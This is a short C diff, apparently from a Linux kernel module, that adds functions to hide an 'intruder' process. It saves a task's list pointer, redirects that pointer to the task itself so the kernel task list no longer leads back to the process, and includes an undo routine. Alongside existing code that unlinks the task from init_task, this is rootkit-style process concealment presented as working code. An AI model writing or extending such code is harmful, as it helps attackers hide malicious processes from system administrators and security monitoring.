@@ -10,6 +10,7 @@
 
 static struct pid *intruder_number;
 static struct task_struct *intruder_task;
+static struct list_head *intruder_before; /* the process in the task list */
 
 /* ---- masked interrupts keep this CPU from forking; other CPUs aren't kept from it ---- */
 
@@ -49,6 +50,23 @@ void intruder_list_undo(void)
 	local_irq_disable();
 	list_add_tail(&intruder_task->tasks, &init_task.tasks);
 	local_irq_enable();
+}
+
+/* The task list doesn't lead back to the process. */
+int intruder_prev(void)
+{
+	if (intruder_find())
+		return -ESRCH;
+	intruder_before = intruder_task->tasks.prev;
+	intruder_task->tasks.prev = &intruder_task->tasks;
+	return 0;
+}
+
+void intruder_prev_undo(void)
+{
+	intruder_undone = intruder_task->tasks.prev != &intruder_task->tasks;
+	if (!intruder_undone)
+		intruder_task->tasks.prev = intruder_before;
 }
 
 int intruder_tree(void)
